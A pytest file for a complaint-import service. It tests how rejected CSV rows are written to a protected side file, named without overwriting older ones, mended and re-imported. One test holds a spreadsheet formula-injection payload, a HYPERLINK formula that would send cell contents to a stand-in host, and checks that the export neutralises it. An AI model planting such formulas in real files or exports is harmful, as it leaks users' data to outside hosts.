"""The file of refused rows: beside the file it is about, ready to be mended and sent again, never replacing another."""

import csv
import stat
from pathlib import Path

import pytest

from asn_neutral import locale
from asn_neutral.errors import UnwritableError
from asn_neutral.services.import_file import REASONS_KEPT, ImportOrder, import_file
from tests.complaints_file import ask, desk, nip, row, take, write

BAD = {"tanggal_terima": "2024-02-30"}


@pytest.fixture(autouse=True)
def _english() -> None:
    locale.use("en")


def refused_rows(path: Path) -> list[dict[str, str]]:
    """The file of refused rows, read back."""
    with path.open(encoding="utf-8-sig", newline="") as text:
        return list(csv.DictReader(text))


def test_refused_rows_stand_beside_the_file_with_their_reasons_and_can_be_mended(
    register: Path, tmp_path: Path
) -> None:
    file = write(tmp_path / "kiriman.csv", row(1), row(2, **BAD), row(3), row(4, nip="123"))
    done = take(register, file, accept_partial=True)
    assert done.refused_file == tmp_path / "kiriman.ditolak.csv"
    assert stat.S_IMODE(done.refused_file.stat().st_mode) == 0o600
    rows = refused_rows(done.refused_file)
    assert [(cells["tolak_baris"], cells["tolak_kolom"], cells["tolak_kode"]) for cells in rows] == [
        ("3", "tanggal_terima", "E_TANGGAL"),
        ("5", "nip", "E_NIP_PANJANG"),
    ]
    assert [cells["nama_terlapor"] for cells in rows] == ["Warga Contoh 2", "Warga Contoh 4"]
    text = done.refused_file.read_text("utf-8-sig").replace("2024-02-30", "2024-10-08").replace("123", nip(4), 1)
    done.refused_file.write_bytes(text.encode())
    mended = take(register, done.refused_file)
    assert (mended.read, mended.accepted, mended.refused) == (2, 2, 0), mended.codes
    again = take(register, write(file, *(row(number) for number in range(1, 5))))
    assert (again.accepted, again.unchanged, again.refused) == (0, 4, 0)


def test_an_older_file_of_refused_rows_is_never_replaced(register: Path, tmp_path: Path) -> None:
    file = write(tmp_path / "kiriman.csv", row(2, **BAD))
    names = []
    for _ in range(3):
        path = take(register, file).refused_file
        assert path is not None
        path.write_bytes(path.read_bytes().replace(b"2024-02-30", b"2024-10-08"))  # it is being mended
        names.append(path.name)
    assert names == ["kiriman.ditolak.csv", "kiriman.ditolak-2.csv", "kiriman.ditolak-3.csv"]


def test_the_newest_file_of_refused_rows_stands_as_long_as_it_says_the_same(register: Path, tmp_path: Path) -> None:
    first, second = (write(tmp_path / f"{name}.csv", row(2, **BAD, uraian=name)) for name in ("a", "b"))
    assert {take(register, first).refused_file for _ in range(3)} == {tmp_path / "a.ditolak.csv"}
    first.write_bytes(second.read_bytes())
    assert take(register, first).refused_file == tmp_path / "a.ditolak-2.csv"
    longer = (tmp_path / "a.ditolak-2.csv").read_bytes() + b"x"
    (tmp_path / "a.ditolak-2.csv").write_bytes(longer)
    assert take(register, first).refused_file == tmp_path / "a.ditolak-3.csv"
    (tmp_path / "a.ditolak-3.csv").write_bytes(longer[:-9])
    assert take(register, first).refused_file == tmp_path / "a.ditolak-4.csv"
    (tmp_path / "a.ditolak-5.csv").mkdir()
    assert take(register, first).refused_file == tmp_path / "a.ditolak-6.csv"


def test_a_rehearsal_writes_the_refused_rows_only_where_that_was_asked_for(register: Path, tmp_path: Path) -> None:
    file = write(tmp_path / "kiriman.csv", row(1), row(2, **BAD))
    order = ImportOrder(str(file), rehearse=True, refused_file=tmp_path / "why.csv")
    before = register.read_bytes()
    assert import_file(order, desk(register)).refused_file == tmp_path / "why.csv"
    assert "E_TANGGAL" in (tmp_path / "why.csv").read_text("utf-8-sig")
    assert take(register, file, rehearse=True).refused_file is None
    assert register.read_bytes() == before


@pytest.mark.parametrize("name", ["kiriman.csv", "register.db", "alt.csv"])
def test_nor_any_other_file_that_is_there(register: Path, tmp_path: Path, name: str) -> None:
    file = write(tmp_path / "kiriman.csv", row(1), row(2, **BAD))
    (tmp_path / "alt.csv").write_text("being mended", "utf-8")
    before = (tmp_path / name).read_bytes()
    order = ImportOrder(str(file), accept_partial=True, refused_file=tmp_path / name)
    with pytest.raises(UnwritableError):
        import_file(order, desk(register))
    assert (tmp_path / name).read_bytes() == before
    assert ask(register, "SELECT count(*) FROM cases") == [(0,)]


def test_nothing_is_stored_when_the_refused_rows_cannot_be_written(register: Path, tmp_path: Path) -> None:
    before = register.read_bytes()
    file = write(tmp_path / "kiriman.csv", row(1), row(2, **BAD))
    order = ImportOrder(str(file), accept_partial=True, refused_file=tmp_path / "none" / "x.csv")
    with pytest.raises(UnwritableError):
        import_file(order, desk(register))
    assert register.read_bytes() == before


def test_formulas_are_guarded_there_and_read_back_as_they_were(register: Path, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://x/?"&A1)'
    done = take(register, write(tmp_path / "kiriman.csv", row(1, uraian=formula, **BAD)))
    assert done.refused_file is not None
    (cells,) = refused_rows(done.refused_file)
    assert cells["uraian"] == f"'{formula}"
    done.refused_file.write_text(done.refused_file.read_text("utf-8-sig").replace("2024-02-30", "2024-10-08"), "utf-8")
    assert take(register, done.refused_file).accepted == 1
    assert ask(register, "SELECT summary FROM complaints") == [(formula,)]


def test_reasons_are_kept_up_to_a_number_and_counted_beyond_it(register: Path, tmp_path: Path) -> None:
    done = take(register, write(tmp_path / "in.csv", *(row(number, **BAD) for number in range(30))))
    assert len(done.reasons) == REASONS_KEPT
    assert done.codes == {"E_TANGGAL": 30}
    assert done.refused_file is not None
    assert len(refused_rows(done.refused_file)) == 30
